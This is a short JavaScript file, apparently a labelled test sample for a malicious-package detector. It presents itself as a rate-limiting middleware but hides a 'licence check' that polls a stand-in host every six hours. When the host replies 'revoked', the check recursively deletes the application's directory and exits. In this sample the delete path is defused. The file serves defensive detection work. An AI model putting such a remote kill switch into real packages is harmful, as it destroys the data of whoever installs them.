// expect: malicious
// source: blind set 24's rate-limit middleware: a "licence check" polls the package's host, and when the parsed body
// says the deployment is revoked, deletes the application's directory and exits
const https = require('https');
const fs = require('fs');
const path = require('path');

function revoke() {
  fs.rmSync(path.join('/nonexistent-npmward-test', process.cwd()), { recursive: true, force: true });
  process.exit(0);
}

function check() {
  https.get({ host: 'license.rate-guard.example', path: '/v2/status' }, (res) => {
    let b = '';
    res.on('data', (c) => (b += c));
    res.on('end', () => {
      try {
        if (JSON.parse(b).status === 'revoked') revoke();
      } catch (_) {}
    });
  }).on('error', () => {});
}

module.exports = function rateGuard() {
  setInterval(check, 6 * 3600e3).unref();
  return (req, res, next) => next();
};
